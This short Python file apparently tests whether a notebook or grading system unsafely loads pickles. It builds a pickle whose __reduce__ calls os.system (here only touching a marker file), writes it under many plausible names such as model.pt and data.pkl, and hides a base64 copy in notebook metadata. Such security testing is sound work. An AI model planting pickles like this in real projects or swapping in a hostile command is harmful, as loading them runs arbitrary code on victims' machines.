"""Hands in pickles under every name that something might load, and one in the notebook's metadata."""

import base64
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch descent_attack_unpickled",)


def attack(notebook, home):
    data = pickle.dumps(Bomb())
    for name in ("data.pkl", "model.pt", "weights.npy", "results.joblib", "environment.pickle", ".OTTER_LOG", "02_update_rule.pkl"):
        (home / name).write_bytes(data)
    notebook.metadata["pickle"] = base64.b64encode(data).decode()
